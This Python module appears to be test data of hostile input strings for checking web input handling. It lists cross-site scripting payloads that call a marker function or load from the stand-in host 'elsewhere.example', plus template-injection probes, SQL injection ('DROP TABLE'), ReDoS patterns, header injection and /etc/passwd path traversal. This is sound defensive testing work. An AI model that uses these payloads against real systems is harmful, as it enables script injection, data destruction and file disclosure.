"""Strings that attackers try, and what people paste by accident."""

MARK = "x9417"
"""Stands in every string that would do something, so that a trace of it can be found."""

SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"'\"><script src=//elsewhere.example/{MARK}></script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s>",
    f'" onfocus={MARK}() autofocus x="',
    f"' onmouseover='{MARK}()",
    f"` onclick=`{MARK}()",
    f"<body onload={MARK}()>",
    f"<iframe srcdoc='<script>parent.{MARK}()</script>'>",
    f"<iframe src=javascript:{MARK}()>",
    f"<details open ontoggle={MARK}()>",
    f"<video><source onerror={MARK}()></video>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={MARK}()>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<template><script>{MARK}()</script></template>",
    f"<base href=//elsewhere.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//elsewhere.example/{MARK}'>",
    f"<link rel=stylesheet href=//elsewhere.example/{MARK}.css>",
    f"<style>@import '//elsewhere.example/{MARK}.css';</style>",
    f"<form action=//elsewhere.example/{MARK}><button>",
    f"</form><form action=//elsewhere.example/{MARK} id=short-list>",
    f"<object data=//elsewhere.example/{MARK}>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"javascript:{MARK}()",
    f"JaVaScRiPt&colon;{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"//elsewhere.example/{MARK}",
    f"https://elsewhere.example/{MARK}",
    f"</script><script>{MARK}()//",
    f"-->{MARK}<!--",
    f"]]>{MARK}<![CDATA[",
    f"<!--#exec cmd='{MARK}'-->",
    f"<?php {MARK}() ?>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"%3Cscript%3E{MARK}()%3C/script%3E",
    f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{MARK}()\uff1c/script\uff1e",
    f"<scr\x00ipt>{MARK}()</scr\x00ipt>",
    f"<script\t>{MARK}()</script\n>",
    f"\u202e<script>{MARK}()</script>\u202c",
)
"""Written to run in a browser."""

TEMPLATES = (
    "{{7*7}}",
    "{%print(1)%}",
    "${7*7}",
    "#{7*7}",
    "{{config}}",
    "%(title)s",
    "%s%s%n",
    "{0.__class__}",
    "{{''.__class__.__mro__}}",
)
"""Written to be filled in by a template, a format or a translation."""

QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE organisation;--",
    "name:* OR slug:*",
    "a AND OR NOT ((",
    '"unclosed phrase',
    "field:value^99999999",
    "[a TO",
    "*" * 200,
    "?" * 200 + "a~9999",
    "(" * 500,
    "a* b* c* d* e* f*",
    "\\" * 50,
    "/(a+)+$/" + "a" * 100,
)
"""Written for a database, an index or a pattern."""

ODD = (
    "",
    " " * 400,
    "\x00",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "a" * 20_000,
    "\u0300" * 1_000,
    "\u200b\u200d\ufeff\u2066",
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 50,
    "\ud7ff\ue000\uffff\U0010ffff",
    "١٢٣٤٥",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "CON",
    "-1",
    "1e309",
    "NaN",
    "undefined",
)
"""Odd in themselves: empty, endless, invisible, not numbers."""

HOSTILE = (*SCRIPTS, *TEMPLATES, *QUERIES, *ODD)
